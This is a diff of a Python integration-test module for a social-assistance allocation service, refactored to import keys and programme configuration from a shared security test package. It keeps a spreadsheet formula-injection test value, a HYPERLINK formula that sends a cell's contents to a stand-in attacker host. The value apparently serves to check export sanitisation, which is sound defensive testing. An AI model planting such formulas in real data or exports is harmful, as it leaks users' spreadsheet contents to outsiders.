@@ -13,9 +13,7 @@ nominated by Samosir is out of scope, whatever Lindung knows of its holder.
 from __future__ import annotations
 
 import asyncio
-import json
 import os
-import secrets
 import uuid
 from collections.abc import AsyncIterator
 from contextlib import AsyncExitStack
@@ -29,7 +27,6 @@ from fastapi import FastAPI
 from sqlalchemy import text
 from sqlalchemy.ext.asyncio import AsyncEngine
 
-from libs.auth import hash_key
 from libs.db import make_engine
 from libs.events import topics
 from libs.identity import worker_id_for
@@ -41,39 +38,15 @@ from libs.settings import get_settings
 from tests.conftest import package_infra  # noqa: F401  (`infra`: a broker of this package's own)
 from tests.infra import Infra, create_database, run_id
 from tests.integration.audit.support import drop_database
+from tests.integration.security import conftest as security
+from tests.integration.security.conftest import API_KEYS, KEYS, MEDAN, SAMOSIR, expect
 from tests.running import eventually, running, use_env
 
-SAMOSIR, MEDAN = "12.17", "12.71"
-KEYS = {role: secrets.token_urlsafe(32) for role in ("admin", "officer")}
-API_KEYS = json.dumps(
-    [
-        {"key_sha256": hash_key(KEYS["admin"]), "role": "province_admin", "name": "Admin Provinsi"},
-        {
-            "key_sha256": hash_key(KEYS["officer"]),
-            "role": "regency_officer",
-            "regency": SAMOSIR,
-            "name": "Petugas Samosir",
-        },
-    ]
-)
+# The security package's keys (a province admin; an officer bound to Samosir) and programme:
+# seats in Samosir and Medan, `nik_regency_must_match: true`; here under a code of this package.
 RUN = run_id()
 PROGRAMME = f"ORAKEL-{RUN}-2026"
-PROGRAMME_YAML = f"""
-code: {PROGRAMME}
-name: Uji tanpa orakel 2026
-year: 2026
-funder: APBD_PROVINSI
-jurisdiction: "12"
-coverage_start: 2026-01-01
-budget_cap: 100000000
-allowed_deciles: [1, 2]
-decree_kind: SK_GUBERNUR
-requires_decree: false
-nik_regency_must_match: true
-quotas:
-  - {{regency: "{SAMOSIR}", sector: non_sawit, seats: 10}}
-  - {{regency: "{MEDAN}", sector: sawit, seats: 10}}
-"""
+PROGRAMME_YAML = security.PROGRAMME_YAML.replace(security.PROGRAMME, PROGRAMME)
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 BIRTH = date(1984, 3, 9)
 
@@ -143,11 +116,6 @@ class Stack:
     async def scalar(self, sql: str, **params: Any) -> Any:
         async with self.engine.connect() as conn:
             return (await conn.execute(text(sql), params)).scalar_one_or_none()
-
-
-async def expect(reply: httpx.Response, *statuses: int) -> Any:
-    assert reply.status_code in statuses, f"{reply.request.method} {reply.request.url}: {reply.text}"
-    return reply.json()
 
 
 SERVICES = ("registry", "allocation", "enrollment", "bpjs_simulator")
